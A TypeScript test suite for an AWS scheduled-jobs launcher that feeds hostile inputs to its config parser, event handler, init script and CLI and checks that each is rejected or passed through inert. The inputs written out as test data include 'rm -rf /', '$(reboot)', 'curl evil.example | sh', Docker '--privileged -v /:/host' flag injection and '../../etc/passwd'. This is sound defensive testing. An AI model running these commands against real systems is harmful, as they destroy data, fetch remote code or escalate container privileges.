import { randomBytes } from "node:crypto";
/**
 * The bad-input corpus: malformed and hostile values at every door of the project — stack config
 * (`parseStackConfig`), launcher events (`handleLaunchEvent`), job parameters on their way into
 * the init script, and the plan CLI's flags. Each must end in a clear error naming the field
 * (never a TypeError or a stack trace), with nothing launched; job parameters, which are free
 * text, must reach the container verbatim and never be interpreted by the shell.
 */
import * as assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import {
  DescribeInstancesCommand,
  EC2Client,
  RunInstancesCommand,
  type RunInstancesCommandInput,
} from "@aws-sdk/client-ec2";
import { mockClient } from "aws-sdk-client-mock";
import { parseStackConfig, rawConfigFromPulumi, StackConfigError } from "../../config";
import { InvalidLaunchEventError, UnknownJobError } from "../../launcher/errors";
import { handleLaunchEvent } from "../../launcher/handler";
import { shellQuote, decodeUserData } from "../../launcher/initScript";
import { loadStackConfig, PROJECT_ROOT } from "../../offline/engine";
import { parsePlanArgs, UsageError } from "../../offline/planArgs";
import { NOW, specFixture } from "../../testing/fixtures";
import { runScript } from "../../testing/scriptHarness";

const DEV = rawConfigFromPulumi(loadStackConfig("dev")) as Record<string, any>;
const PI = DEV.jobs.pi as Record<string, unknown>;
const withJob = (patch: Record<string, unknown>) => ({ jobs: { pi: { ...PI, ...patch } } });

/** Stack config values that must be refused, and exactly the problems reported for each. */
const BAD_CONFIG: Array<[string, Record<string, unknown>, string[]]> = [
  [
    "regions as a string",
    { regions: "eu-west-1" },
    ['transient-jobs:regions: "eu-west-1" must be a list, not a string'],
  ],
  [
    "a region with a shell command",
    { regions: ["eu-west-1; rm -rf /"] },
    [
      'transient-jobs:regions[0]: "eu-west-1; rm -rf /" is not an AWS region (e.g. "eu-west-1", "us-east-2"; the full list is AWS_REGIONS in config.ts)',
    ],
  ],
  [
    "a subnet id with a command substitution",
    { regions: [{ name: "eu-west-1", subnetIds: ["subnet-$(reboot)"] }] },
    [
      'transient-jobs:regions[0].subnetIds[0]: "subnet-$(reboot)" is not a subnet id ("subnet-" and hex)',
    ],
  ],
  ["no jobs", { jobs: {} }, ["transient-jobs:jobs: {} must define at least one job"]],
  [
    "a job name with a shell separator",
    { jobs: { "pi;reboot": PI } },
    [
      'transient-jobs:jobs.pi;reboot: "pi;reboot" is not a valid job name: use 1-24 lowercase letters, digits and "-", starting with a letter',
    ],
  ],
  [
    "a 100 kB job name",
    { jobs: { ["p".repeat(100000)]: PI } },
    [
      `transient-jobs:jobs.${"p".repeat(37)}...: "${"p".repeat(76)}... is not a valid job name: use 1-24 lowercase letters, digits and "-", starting with a letter`,
    ],
  ],
  [
    "a schedule with a shell pipeline",
    withJob({ schedule: "cron(0 6 * * ? *); curl evil.example | sh" }),
    [
      'transient-jobs:jobs.pi.schedule: "cron(0 6 * * ? *); curl evil.example | sh" is not a valid schedule: must be "cron(minutes hours day-of-month month day-of-week year)" or "rate(value unit)"',
    ],
  ],
  [
    "a schedule that is a number",
    withJob({ schedule: 42 }),
    ["transient-jobs:jobs.pi.schedule: 42 must be a string, not a number"],
  ],
  [
    "a 400 kB schedule",
    withJob({ schedule: `cron(${"1,".repeat(200000)}1 6 * * ? *)` }),
    [
      `transient-jobs:jobs.pi.schedule: "cron(${"1,".repeat(35)}1... is longer than the 256 characters EventBridge Scheduler accepts`,
    ],
  ],
  [
    "a time zone with backticks",
    withJob({ timezone: "Europe/Dublin`id`" }),
    [
      'transient-jobs:jobs.pi.timezone: "Europe/Dublin`id`" is not an IANA time zone (did you mean "Europe/Dublin"?)',
    ],
  ],
  [
    "an image path out of the project",
    withJob({ image: "../../etc" }),
    ['transient-jobs:jobs.pi.image: "../../etc" must stay inside the project'],
  ],
  [
    "an image path with a command substitution",
    withJob({ image: "$(reboot)" }),
    ['transient-jobs:jobs.pi.image: "$(reboot)" is not a relative path to a Docker build context'],
  ],
  [
    "an instance type with a shell operator",
    withJob({ instanceTypes: ["t3.medium && reboot"] }),
    [
      'transient-jobs:jobs.pi.instanceTypes[0]: "t3.medium && reboot" is not an EC2 instance type (e.g. "m7i.large", "c7g.xlarge")',
    ],
  ],
  [
    "a volume size as a string",
    withJob({ volumeGiB: "30" }),
    [
      'transient-jobs:jobs.pi.volumeGiB: "30" must be a number, not a string; write 30 without quotes',
    ],
  ],
  [
    "a volume smaller than the AMI",
    withJob({ volumeGiB: 8 }),
    ["transient-jobs:jobs.pi.volumeGiB: 8 must be at least 30 (the AMI's root snapshot)"],
  ],
  [
    "a runtime of 2.5 minutes",
    withJob({ maxRuntimeMinutes: 2.5 }),
    ["transient-jobs:jobs.pi.maxRuntimeMinutes: 2.5 must be a whole number"],
  ],
  [
    "a runtime of two years",
    withJob({ maxRuntimeMinutes: 1e6 }),
    ["transient-jobs:jobs.pi.maxRuntimeMinutes: 1000000 must be at most 10080 (7 days)"],
  ],
  [
    "an unknown purchase option",
    withJob({ purchaseOption: "free" }),
    [
      'transient-jobs:jobs.pi.purchaseOption: "free" must be one of "on-demand", "spot", "spot-then-on-demand"',
    ],
  ],
  [
    "a parameter name with a shell separator",
    withJob({ parameters: { "A;reboot": "x" } }),
    [
      'transient-jobs:jobs.pi.parameters.A;reboot: "A;reboot" is not an environment variable name (A-Z, 0-9, _; not starting with a digit)',
    ],
  ],
  [
    "a parameter overriding the run id",
    withJob({ parameters: { RUN_ID: "x" } }),
    [
      'transient-jobs:jobs.pi.parameters.RUN_ID: "RUN_ID" is reserved; the init script sets RUN_ID, RESULTS_BUCKET, RESULTS_PREFIX, AWS_REGION, SCRATCH_DIR, CHECKPOINT_URI, ATTEMPT',
    ],
  ],
  [
    "a 5000-character parameter",
    withJob({ parameters: { A: "x".repeat(5000) } }),
    [
      `transient-jobs:jobs.pi.parameters.A: "${"x".repeat(76)}... is longer than 4096 characters, the most one parameter may hold`,
    ],
  ],
  [
    "a parameter with a NUL",
    withJob({ parameters: { A: "a\u0000b" } }),
    ['transient-jobs:jobs.pi.parameters.A: "a\\u0000b" must not contain NUL'],
  ],
  [
    // Numbers and booleans are taken in their string form (tests/config.test.ts); a list is not.
    "a list as a parameter",
    withJob({ parameters: { A: [5] } }),
    [
      "transient-jobs:jobs.pi.parameters.A: [5] must be a string, a number or true/false (it becomes an environment variable)",
    ],
  ],
  [
    "a job field the schema does not know",
    withJob({ command: "rm -rf /" }),
    ['transient-jobs:jobs.pi: unknown key(s) "command"; check the spelling against Pulumi.yaml'],
  ],
  [
    "a javascript: notification endpoint",
    { notifications: { httpsEndpoints: ["javascript:alert(1)"] } },
    [
      'transient-jobs:notifications.httpsEndpoints[0]: "javascript:alert(1)" is not an https:// URL',
    ],
  ],
  [
    "a plain-HTTP notification endpoint",
    { notifications: { httpsEndpoints: ["http://example.com/hook"] } },
    [
      'transient-jobs:notifications.httpsEndpoints[0]: "http://example.com/hook" is not an https:// URL',
    ],
  ],
];

describe("bad input: stack config", () => {
  it("accepts the dev stack's own config (the base of every case)", () => {
    assert.equal(parseStackConfig(DEV, "dev").jobs[0].name, "pi");
  });

  for (const [title, patch, problems] of BAD_CONFIG) {
    it(`refuses ${title}, naming the key`, () => {
      assert.throws(
        () => parseStackConfig({ ...DEV, ...patch }, "dev"),
        (e: unknown) => {
          assert.ok(e instanceof StackConfigError, `not a StackConfigError: ${String(e)}`);
          assert.deepEqual(e.problems, problems);
          assert.ok(e.message.length < 1000, `a ${e.message.length}-character message`);
          return true;
        },
      );
    });
  }
});

const TIME = "2026-11-23T03:00:00Z";

/** Launcher events that must be rejected before any AWS call, with the field each names. */
const BAD_EVENTS: Array<[string, unknown, "InvalidLaunchEventError" | "UnknownJobError", string]> =
  [
    ["null", null, "InvalidLaunchEventError", "launch event: expected an object"],
    ["no event", undefined, "InvalidLaunchEventError", "launch event: expected an object"],
    ["a number", 42, "InvalidLaunchEventError", "launch event: expected an object"],
    ["an array", [{ job: "pi" }], "InvalidLaunchEventError", "launch event: expected an object"],
    ["an empty object", {}, "InvalidLaunchEventError", "launch event.job: expected the job name"],
    [
      "a job that is an array",
      { job: ["pi"], scheduledTime: TIME },
      "InvalidLaunchEventError",
      "launch event.job: expected the job name as a string, got an array",
    ],
    [
      "a job that is an object with toString",
      { job: { toString: "pi" }, scheduledTime: TIME },
      "InvalidLaunchEventError",
      "launch event.job: expected the job name as a string, got an object",
    ],
    [
      "a 1 MB job name",
      { job: "p".repeat(1000000), scheduledTime: TIME },
      "InvalidLaunchEventError",
      `launch event.job: "${"p".repeat(79)}... is not a job name`,
    ],
    [
      "a job name with a shell separator",
      { job: "pi; reboot", scheduledTime: TIME },
      "InvalidLaunchEventError",
      'launch event.job: "pi; reboot" is not a job name',
    ],
    [
      "a job name with a command substitution",
      { job: "$(reboot)", scheduledTime: TIME },
      "InvalidLaunchEventError",
      'launch event.job: "$(reboot)" is not a job name',
    ],
    [
      "a job name with a newline",
      { job: "pi\n", scheduledTime: TIME },
      "InvalidLaunchEventError",
      'launch event.job: "pi\\n" is not a job name',
    ],
    [
      "the job __proto__",
      { job: "__proto__", scheduledTime: TIME },
      "InvalidLaunchEventError",
      'launch event.job: "__proto__" is not a job name',
    ],
    [
      "the job constructor (an Object.prototype name)",
      { job: "constructor", scheduledTime: TIME },
      "UnknownJobError",
      'launch event.job: no job "constructor" in this launcher (deployed jobs: pi)',
    ],
    [
      "a job of another region",
      { job: "nightly", scheduledTime: TIME },
      "UnknownJobError",
      'launch event.job: no job "nightly" in this launcher (deployed jobs: pi)',
    ],
    [
      "a numeric time",
      { job: "pi", scheduledTime: 1700000000 },
      "InvalidLaunchEventError",
      "launch event.scheduledTime: expected an ISO-8601 time string, got number 1700000000",
    ],
    [
      "a time with a command substitution",
      { job: "pi", scheduledTime: "$(reboot)" },
      "InvalidLaunchEventError",
      'launch event.scheduledTime: "$(reboot)" is not an ISO-8601 time with a zone',
    ],
    [
      "a time followed by a command",
      { job: "pi", scheduledTime: `${TIME}; reboot` },
      "InvalidLaunchEventError",
      'launch event.scheduledTime: "2026-11-23T03:00:00Z; reboot" is not an ISO-8601 time with a zone',
    ],
    [
      "a 1 MB time",
      { job: "pi", scheduledTime: "9".repeat(1000000) },
      "InvalidLaunchEventError",
      `launch event.scheduledTime: "${"9".repeat(79)}... is not an ISO-8601 time with a zone`,
    ],
    [
      "an extended-year time",
      { job: "pi", scheduledTime: "+275760-09-13T00:00:00Z" },
      "InvalidLaunchEventError",
      'launch event.scheduledTime: "+275760-09-13T00:00:00Z" is not an ISO-8601 time with a zone',
    ],
    [
      "a manual flag as a string",
      { job: "pi", scheduledTime: TIME, manual: "true" },
      "InvalidLaunchEventError",
      'launch event.manual: expected true, false or no field, got string "true"',
    ],
  ];

describe("bad input: launcher events", () => {
  const ec2 = new EC2Client({ region: "eu-west-1" });
  const ec2Mock = mockClient(ec2);
  let logs: string[];
  const deps = (parameters?: Record<string, string>) => ({
    ec2,
    jobs: { pi: specFixture(parameters ? { parameters } : {}) },
    now: () => NOW,
    remainingTimeMs: () => 60000,
    sleep: async () => undefined,
    log: (line: string) => void logs.push(line),
  });

  beforeEach(() => {
    ec2Mock.reset();
    logs = [];
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [] });
    ec2Mock.on(RunInstancesCommand).resolves({
      Instances: [{ InstanceId: "i-1", InstanceType: "m7i.large", Placement: {} }],
    });
  });

  for (const [title, event, errorName, start] of BAD_EVENTS) {
    it(`rejects ${title} with ${errorName}, naming the field, before any AWS call`, async () => {
      await assert.rejects(handleLaunchEvent(event, deps()), (e: Error) => {
        assert.ok(
          e instanceof InvalidLaunchEventError || e instanceof UnknownJobError,
          `${e.name}: ${e.message}`,
        );
        assert.equal(e.name, errorName);
        assert.ok(e.message.startsWith(start), e.message.slice(0, 300));
        assert.ok(e.message.length < 400, `a ${e.message.length}-character message`);
        return true;
      });
      assert.equal(ec2Mock.calls().length, 0, "an EC2 call was made");
      assert.equal(logs.length, 1);
      const line = JSON.parse(logs[0]);
      assert.deepEqual(Object.keys(line), ["level", "status", "error", "message"]);
      assert.equal(line.status, "rejected");
      assert.ok(!logs[0].includes("    at "), "the log line holds a stack trace");
    });
  }

  it("ignores fields an event adds to smuggle parameters, images or templates into the launch", async () => {
    const result = await handleLaunchEvent(
      {
        job: "pi",
        scheduledTime: TIME,
        parameters: { EVIL: "$(reboot)" },
        imageUri: "evil.example/miner:latest",
        launchTemplateId: "lt-0attacker00000000",
        spec: { bucket: "attacker-bucket" },
      },
      deps(),
    );
    assert.equal(result.status, "launched");
    const runs = ec2Mock.commandCalls(RunInstancesCommand);
    assert.equal(runs.length, 1);
    const input = runs[0].args[0].input as RunInstancesCommandInput;
    assert.deepEqual(input.LaunchTemplate, {
      LaunchTemplateId: specFixture().launchTemplateId,
      Version: "$Latest",
    });
    const userData = decodeUserData(String(input.UserData));
    for (const smuggled of [
      "EVIL",
      "$(reboot)",
      "evil.example",
      "attacker-bucket",
      "lt-0attacker",
    ]) {
      assert.ok(!userData.includes(smuggled), `${smuggled} reached the user data`);
    }
  });
});

describe("bad input: shell metacharacters in job parameters", function () {
  this.timeout(60000);
  const canary = fs.mkdtempSync(path.join(os.tmpdir(), "tj-canary-"));
  const hit = (name: string) => path.join(canary, name);

  /** Free-text values the config accepts; each tries to run `printf` into the canary folder. */
  const HOSTILE: Record<string, string> = {
    CMD_SUBST: `$(printf pwned >${hit("cmdsubst")})`,
    BACKTICKS: `\`printf pwned >${hit("backticks")}\``,
    SINGLE_QUOTE: `'; printf pwned >${hit("squote")}; echo '`,
    DOUBLE_QUOTE: `"; printf pwned >${hit("dquote")}; echo "`,
    NEWLINE: `x\nprintf pwned >${hit("newline")}\n`,
    EXPANSIONS: "${IFS}$HOME ~ * ?? [a-z] !! $$ $0 \\ \\' \t tab",
    OPERATORS: "a && b || c ; d | e > f < g & h # i",
    DOCKER_FLAGS: "--privileged -v /:/host --env AWS_SECRET_ACCESS_KEY=x",
    UNICODE: "π ≈ 3.14159 — ✓ \u202e",
  };

  after(() => fs.rmSync(canary, { recursive: true, force: true }));

  it("are accepted by the stack config as free text", () => {
    const config = parseStackConfig({ ...DEV, ...withJob({ parameters: HOSTILE }) }, "dev");
    assert.deepEqual(config.jobs[0].parameters, HOSTILE);
  });

  it("reach the container verbatim, single-quoted in the script, and run nothing", async () => {
    const ec2 = new EC2Client({ region: "eu-west-1" });
    const ec2Mock = mockClient(ec2);
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [] });
    ec2Mock.on(RunInstancesCommand).resolves({
      Instances: [{ InstanceId: "i-1", InstanceType: "m7i.large", Placement: {} }],
    });
    const parameters = parseStackConfig({ ...DEV, ...withJob({ parameters: HOSTILE }) }, "dev")
      .jobs[0].parameters;
    await handleLaunchEvent(
      { job: "pi", scheduledTime: TIME },
      {
        ec2,
        jobs: { pi: specFixture({ parameters }) },
        now: () => NOW,
        sleep: async () => undefined,
        log: () => undefined,
      },
    );
    const input = ec2Mock.commandCalls(RunInstancesCommand)[0].args[0].input;
    const script = decodeUserData(String(input.UserData));

    const syntax = spawnSync("bash", ["-n"], { input: script, encoding: "utf8" });
    assert.equal(syntax.status, 0, syntax.stderr);
    const names = Object.keys(HOSTILE).sort();
    for (const name of names) {
      assert.ok(
        script.includes(`\n  --env ${shellQuote(`${name}=${HOSTILE[name]}`)} \\\n`),
        `${name} is not one single-quoted word on its own --env line`,
      );
    }

    const run = await runScript(script);
    assert.equal(run.status, 0, run.stderr);
    assert.deepEqual(fs.readdirSync(canary), [], "a parameter was executed by the shell");
    const args = run.dockerRunArgs ?? [];
    const passed = args.flatMap((arg, i) =>
      args[i - 1] === "--env" && names.some((n) => arg.startsWith(`${n}=`)) ? [arg] : [],
    );
    assert.deepEqual(
      passed,
      names.map((n) => `${n}=${HOSTILE[n]}`),
    );
    assert.ok(!args.includes("--privileged") && !args.includes("/:/host"), "a flag was injected");
    const commands = new Set(run.calls.map((c) => c.split(" ")[0]));
    assert.deepEqual(
      [...commands].filter(
        (c) => !["aws", "curl", "date", "docker", "shutdown", "sleep"].includes(c),
      ),
      [],
    );
  });

  it("too much of them is refused by config and again at launch, with nothing launched", async () => {
    const ec2 = new EC2Client({ region: "eu-west-1" });
    const ec2Mock = mockClient(ec2);
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [] });
    // Each value is within the config's 4096 characters; together, and as hard to compress as
    // text gets, they exceed EC2's 16 KB even gzip-compressed.
    const parameters = Object.fromEntries(
      ["A", "B", "C", "D", "E"].map((n) => [
        n,
        `'$(x)'${randomBytes(3000).toString("base64").slice(0, 4000)}`,
      ]),
    );
    assert.throws(
      () => parseStackConfig({ ...DEV, ...withJob({ parameters }) }, "dev"),
      /transient-jobs:jobs\.pi\.parameters: initScript: .* over the EC2 user data limit of 16384/,
    );
    await assert.rejects(
      handleLaunchEvent(
        { job: "pi", scheduledTime: TIME },
        { ec2, jobs: { pi: specFixture({ parameters }) }, now: () => NOW, log: () => undefined },
      ),
      (e: Error) =>
        e.name === "InvalidLaunchSpecError" &&
        /over the EC2 user data limit of 16384; shorten the job parameters$/.test(e.message),
    );
    assert.equal(ec2Mock.commandCalls(RunInstancesCommand).length, 0);
  });
});

describe("bad input: npm run plan flags", () => {
  const stacks = "(stacks: dev, prod)";
  const cases: Array<[string[], string]> = [
    [
      [],
      `missing stack name; usage: npm run plan -- <stack> [--config <file>] [--now <ISO time>]   ${stacks}`,
    ],
    [["--now"], `--now: null is not an ISO time (e.g. 2026-11-23T12:00:00Z)`],
    [
      ["dev", "--now", "$(reboot)"],
      `--now: "$(reboot)" is not an ISO time (e.g. 2026-11-23T12:00:00Z)`,
    ],
    [
      ["dev", "--now", "yesterday"],
      `--now: "yesterday" is not an ISO time (e.g. 2026-11-23T12:00:00Z)`,
    ],
    [
      ["dev", "-rf"],
      `unknown flag "-rf"; usage: npm run plan -- <stack> [--config <file>] [--now <ISO time>]   ${stacks}`,
    ],
    [
      ["dev", "--stack=prod"],
      `unknown flag "--stack=prod"; usage: npm run plan -- <stack> [--config <file>] [--now <ISO time>]   ${stacks}`,
    ],
    [
      ["../../etc/passwd"],
      `stack "../../etc/passwd" has no Pulumi.../../etc/passwd.yaml; usage: npm run plan -- <stack> [--config <file>] [--now <ISO time>]   ${stacks}`,
    ],
    [
      ["dev;reboot"],
      `stack "dev;reboot" has no Pulumi.dev;reboot.yaml; usage: npm run plan -- <stack> [--config <file>] [--now <ISO time>]   ${stacks}`,
    ],
    [
      ["dev", "prod"],
      `unexpected argument "prod"; usage: npm run plan -- <stack> [--config <file>] [--now <ISO time>]   ${stacks}`,
    ],
  ];
  for (const [argv, message] of cases) {
    it(`rejects ${JSON.stringify(argv)} with a usage error`, () =>
      assert.throws(
        () => parsePlanArgs(argv),
        (e: unknown) => e instanceof UsageError && e.message === message,
      ));
  }

  it("prints one line and exits 2, without a stack trace, for a bad flag", function () {
    this.timeout(60000);
    const result = spawnSync(
      process.execPath,
      [
        require.resolve("ts-node/dist/bin.js"),
        "--transpile-only",
        "offline/plan.ts",
        "dev",
        "--now",
        "$(reboot)",
      ],
      { cwd: PROJECT_ROOT, encoding: "utf8" },
    );
    assert.equal(result.status, 2);
    assert.equal(result.stdout, "");
    assert.equal(
      result.stderr,
      `--now: "$(reboot)" is not an ISO time (e.g. 2026-11-23T12:00:00Z)\n`,
    );
  });
});
